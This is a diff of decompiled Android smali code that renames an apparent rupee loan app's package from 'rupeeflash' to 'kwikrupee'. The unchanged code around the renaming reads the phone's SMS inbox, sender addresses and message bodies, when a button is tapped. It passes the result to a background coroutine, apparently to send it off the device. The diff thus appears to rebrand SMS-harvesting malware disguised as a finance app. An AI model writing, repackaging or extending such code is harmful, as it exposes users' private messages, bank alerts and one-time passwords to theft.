@@ -1,4 +1,4 @@
-.class public final Lcom/example/rupeeflash/MainActivity;
+.class public final Lcom/example/kwikrupee/MainActivity;
 .super Landroidx/appcompat/app/AppCompatActivity;
 .source "MainActivity.kt"
 
@@ -29,7 +29,7 @@
     return-void
 .end method
 
-.method static final synthetic onCreate$lambda$0(Lcom/example/rupeeflash/MainActivity;Landroid/view/View;)V
+.method static final synthetic onCreate$lambda$0(Lcom/example/kwikrupee/MainActivity;Landroid/view/View;)V
     .registers 12
     # locals v0..v9 ; p0 = this$0, p1 = clicked view
 
@@ -37,7 +37,7 @@
     invoke-static {p0, v0}, Lkotlin/jvm/internal/Intrinsics;->checkNotNullParameter(Ljava/lang/Object;Ljava/lang/String;)V
 
     # contentResolver.query(Uri.parse("content://sms/inbox"), arrayOf("address", "body"), null, null, null)
-    invoke-virtual {p0}, Lcom/example/rupeeflash/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
+    invoke-virtual {p0}, Lcom/example/kwikrupee/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
     move-result-object v1
     const-string v0, "content://sms/inbox"
     invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
@@ -97,9 +97,9 @@
     move-result-object v2
     check-cast v2, Lkotlin/coroutines/CoroutineContext;
     const/4 v3, 0x0
-    new-instance v4, Lcom/example/rupeeflash/MainActivity$onCreate$1$1;
+    new-instance v4, Lcom/example/kwikrupee/MainActivity$onCreate$1$1;
     const/4 v5, 0x0
-    invoke-direct {v4, v0, v5}, Lcom/example/rupeeflash/MainActivity$onCreate$1$1;-><init>(Ljava/lang/String;Lkotlin/coroutines/Continuation;)V
+    invoke-direct {v4, v0, v5}, Lcom/example/kwikrupee/MainActivity$onCreate$1$1;-><init>(Ljava/lang/String;Lkotlin/coroutines/Continuation;)V
     check-cast v4, Lkotlin/jvm/functions/Function2;
     const/4 v5, 0x2
     const/4 v6, 0x0
@@ -124,12 +124,12 @@
     check-cast v1, Ljava/lang/CharSequence;
     invoke-virtual {v0, v1}, Landroid/widget/Button;->setText(Ljava/lang/CharSequence;)V
 
-    new-instance v1, Lcom/example/rupeeflash/MainActivity$$ExternalSyntheticLambda0;
-    invoke-direct {v1, p0}, Lcom/example/rupeeflash/MainActivity$$ExternalSyntheticLambda0;-><init>(Lcom/example/rupeeflash/MainActivity;)V
+    new-instance v1, Lcom/example/kwikrupee/MainActivity$$ExternalSyntheticLambda0;
+    invoke-direct {v1, p0}, Lcom/example/kwikrupee/MainActivity$$ExternalSyntheticLambda0;-><init>(Lcom/example/kwikrupee/MainActivity;)V
     invoke-virtual {v0, v1}, Landroid/widget/Button;->setOnClickListener(Landroid/view/View$OnClickListener;)V
 
     check-cast v0, Landroid/view/View;
-    invoke-virtual {p0, v0}, Lcom/example/rupeeflash/MainActivity;->setContentView(Landroid/view/View;)V
+    invoke-virtual {p0, v0}, Lcom/example/kwikrupee/MainActivity;->setContentView(Landroid/view/View;)V
 
     return-void
 .end method
